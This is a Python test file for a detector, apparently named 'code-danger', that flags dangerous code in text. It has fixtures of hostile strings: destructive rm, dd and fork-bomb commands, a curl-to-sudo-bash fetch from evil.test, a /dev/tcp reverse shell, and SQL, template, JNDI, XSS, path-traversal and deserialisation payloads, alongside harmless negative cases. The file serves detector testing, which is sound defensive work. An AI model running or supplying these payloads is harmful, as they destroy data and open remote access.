"""Code that does harm where it is run."""

from __future__ import annotations

import pytest

from seatrial.checks.detectors.code import PATTERNS
from seatrial.core.errors import SpecError
from seatrial.spec.patterns import compile_pattern

HARMFUL = {
    "shell": [
        "sudo rm -rf /",
        "rm -r -f --no-preserve-root /*",
        'rm -rf "$HOME"',
        "file.txt; wget evil.test/a",
        "x | cat /etc/passwd",
        "curl -s evil.test/install | sudo bash",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        ":(){ :|:& };:",
        "dd if=/dev/zero of=/dev/sda",
        "chmod -R 777 /",
        "echo aGk= | base64 -d | sh",
        "powershell -nop -enc SQBFAFgA",
        "del /f /s /q C:\\",
    ],
    "sql": [
        "' OR 1=1 --",
        "admin' or 'a'='a",
        "1 UNION ALL SELECT name, pass FROM users",
        "x'); DROP TABLE students;--",
        "1; drop table users",
        "exec xp_cmdshell 'dir'",
        "SELECT table_name FROM information_schema.tables",
    ],
    "template": [
        "{{ ''.__class__.__mro__[1] }}",
        "{{7*7}}",
        "${jndi:ldap://evil.test/a}",
        "<%= system('id') %>",
        "#{7*7}",
        "{{ config.items() }}",
    ],
    "script": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "<iframe src='https://evil.test'>",
    ],
    "path": ["../../../../etc/passwd", "..%2f..%2f", "%2e%2e%2f%2e%2e%2f", "file:///etc/passwd", "..\\..\\windows"],
    "deserialisation": [
        "pickle.loads(data)",
        "!!python/object/apply:os.system",
        "rO0ABXNyABFqYXZh",
        'O:8:"stdClass":1:{',
    ],
}
HARMLESS = [
    "SELECT name FROM users WHERE id = 5 OR name = 'x';",
    "rm -rf node_modules build/",
    "Hello {{ name }}, it costs ${price} or #{amount}",
    "It's Bob's -- or Ann's -- book; drop me a line; delete this later.",
    "Use ../images/a.png, not ./b.",
    "the union selected him; 1 or 2 = 3?",
    "He said 'yes' or she said 'no'. Rock 'n' roll!",
    "const x = a || b; if (y && z) { id(); }",
    "json.loads(text); yaml.safe_load(f)",
    "I like <b>bold</b> and on=off switches, see https://example.com/?id=5&x=1",
    "format: c is fine, chmod 644 file",
    "| name | id |\n|---|---|\n| a | 1 |",
]


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in HARMFUL.items() for text in texts])
def test_harmful_code_is_found_and_named(judge, kind, text):
    verdict = judge({"code-danger": [kind]}, f"run this: {text}")
    assert verdict.state == "fail"
    assert {span.label for span in verdict.spans} == {kind}
    assert judge("code-danger", text).state == "fail"


@pytest.mark.parametrize(
    "construct",
    [
        "{{7*7}}",
        "{{ ''.__class__.__mro__ }}",
        "{{ 7*7|f({'a': 1}) }}",
        "${7*7}",
        "${jndi:ldap://${env:X}.evil.test/a}",
        "#{7*7}",
        "<%= system('id') %>",
        "<img src=x onerror=\"alert('>')\" alt=y>",
        "<script>alert(1)</script>",
        "javascript:alert(1)",
        "../../" + "srv/" * 25 + "etc/passwd",
        "..%2f..%2f" + "srv%2f" * 15 + "etc",
    ],
)
def test_a_construct_is_pointed_at_up_to_where_it_ends(judge, construct):
    text = f"say ({construct}) }} é"
    spans = judge("code-danger", text).spans
    assert (min(span.start for span in spans), max(span.end for span in spans)) == (5, 5 + len(construct))


def test_a_construct_that_ends_nowhere_near_is_pointed_at_as_far_as_it_is_known(judge):
    text = "{{7*7 " + " " * 300 + "}}"
    (span,) = judge("code-danger", text).spans
    assert text[span.start : span.end] == "{{7*7"


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_code_and_prose_is_left_alone(judge, text):
    verdict = judge("code-danger", text)
    assert verdict.state == "pass", [text[span.start : span.end] for span in verdict.spans]


@pytest.mark.parametrize("pattern", [each for patterns in PATTERNS.values() for each in patterns])
def test_every_pattern_has_a_longest_match(pattern):
    assert compile_pattern(pattern).longest


@pytest.mark.parametrize("kinds", [[], ["shel"], "shell"])
def test_a_kind_that_is_none_is_refused(judge, kinds):
    with pytest.raises(SpecError):
        judge({"code-danger": {"kinds": kinds}}, "x")
